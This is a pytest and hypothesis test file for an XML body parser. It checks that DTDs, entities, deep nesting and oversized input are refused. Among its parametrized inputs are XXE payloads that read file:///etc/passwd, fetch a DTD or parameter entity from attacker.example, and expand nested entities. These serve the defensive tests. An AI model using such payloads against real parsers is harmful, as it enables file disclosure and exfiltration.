import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.connectors.connector import Malformed
from app.connectors.xml_body import MOST_BYTES, read_xml


def _nested(depth: int) -> bytes:
    return b"<xml>" + b"<a>" * (depth - 1) + b"</a>" * (depth - 1) + b"</xml>"


def test_fields_are_read_and_what_is_deeper_is_stepped_over() -> None:
    body = "<xml>\n <A><![CDATA[1 < 2]]> &amp; \u4e2d&#20013;</A> <B/> <C>c<D>d</D>e</C>f</xml>".encode()
    assert read_xml(body, "xml") == {"A": "1 < 2 & \u4e2d\u4e2d", "B": "", "C": "ce"}


@pytest.mark.parametrize(
    "body",
    [
        b"<!DOCTYPE xml><xml><A>1</A></xml>",
        b'<!DOCTYPE xml SYSTEM "http://attacker.example/x.dtd"><xml><A>1</A></xml>',
        b'<?xml version="1.0"?>\n<!DOCTYPE xml [<!ENTITY t "text">]><xml><MsgType>&t;</MsgType></xml>',
        b'<!DOCTYPE xml [<!ENTITY f SYSTEM "file:///etc/passwd">]><xml><A>&f;</A></xml>',
        b'<!DOCTYPE xml [<!ENTITY % p SYSTEM "http://attacker.example/"> %p;]><xml/>',
        b'<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]><xml><A>&c;</A></xml>',
        b'<!DOCTYPE xml [<!ATTLIST A b CDATA "c">]><xml><A>1</A></xml>',
    ],
)
def test_a_dtd_is_refused_and_with_it_every_entity(body: bytes) -> None:
    with pytest.raises(Malformed, match="DTD"):
        read_xml(body, "xml")


def test_an_entity_without_a_dtd_is_refused() -> None:
    with pytest.raises(Malformed, match="not XML"):
        read_xml(b"<xml><A>&t;</A></xml>", "xml")


def test_five_elements_deep_and_no_deeper() -> None:
    assert read_xml(_nested(5), "xml") == {"a": ""}
    for depth in (6, 30_000):
        with pytest.raises(Malformed, match="deeper than 5"):
            read_xml(_nested(depth), "xml")


def test_what_is_too_long_is_refused_unread() -> None:
    with pytest.raises(Malformed, match="at most"):
        read_xml(b"<" * (MOST_BYTES + 1), "xml")


@pytest.mark.parametrize(
    ("body", "words"),
    [
        (b"", "not XML"),
        (b"<xml>", "not XML"),
        (b"<xml></xml><xml></xml>", "not XML"),
        (b"<xml>\x00</xml>", "not XML"),
        (b"<xml>\xff</xml>", "not XML"),
        ("<!DOCTYPE xml><xml/>".encode("utf-16"), "DTD"),
        (b"<html></html>", "root must be xml"),
        (b"<xml><A>1</A><A>2</A></xml>", "comes twice"),
    ],
)
def test_what_is_wrong_is_said(body: bytes, words: str) -> None:
    with pytest.raises(Malformed, match=words):
        read_xml(body, "xml")


def test_an_encoding_that_is_declared_changes_nothing() -> None:
    declared = '<?xml version="1.0" encoding="iso-8859-1"?><xml><A>\u4e2d</A></xml>'
    assert read_xml(declared.encode(), "xml") == {"A": "\u4e2d"}


@given(st.binary(max_size=60), st.sampled_from([b"%b", b"<xml>%b</xml>", b"<xml><A>%b</A></xml>", b"<!DOCTYPE %b"]))
def test_any_bytes_are_xml_or_malformed(raw: bytes, around: bytes) -> None:
    try:
        assert isinstance(read_xml(around % raw, "xml"), dict)
    except Malformed as refused:
        assert refused.detail
